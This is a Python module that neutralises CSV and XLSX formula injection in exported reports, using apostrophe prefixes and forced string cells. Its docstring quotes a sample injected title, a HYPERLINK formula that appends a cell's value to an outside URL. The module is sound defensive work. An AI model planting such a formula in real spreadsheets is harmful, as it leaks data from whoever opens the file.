"""Text written to a spreadsheet stays text: a cooperation titled `=HYPERLINK("http://…"&C3,"Buka")` must not
become a live formula in the export a leader or the ministry opens (OWASP, "CSV Injection").

XLSX: every text cell is written as a string cell (openpyxl makes any text beginning with "=" a formula).
CSV has no cell types: a text beginning with a character a spreadsheet reads as the start of a formula
(= + - @ tab, carriage return) gets a leading apostrophe, which spreadsheets show as text and hide."""

from .params import printable

#: What a spreadsheet program may read as the start of a formula in a CSV cell.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value):
    """A CSV cell's value, neutralised when it is a text a spreadsheet would read as a formula; numbers and
    dates (not text) as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def cell_text(value):
    """A value as a workbook can hold it: a text without control characters (one saved before records refused
    them would make openpyxl fail), anything else as it is."""
    return printable(value) if isinstance(value, str) else value


def as_text(cell):
    """Make an openpyxl cell holding text a string cell, whatever the text begins with; returns it."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def text_cell(ws, value: str, **style):
    """A write-only worksheet's cell for this text, as a string cell (openpyxl.cell.WriteOnlyCell)."""
    from openpyxl.cell import WriteOnlyCell

    cell = as_text(WriteOnlyCell(ws, value=cell_text(value)))
    for name, attr in style.items():
        setattr(cell, name, attr)
    return cell
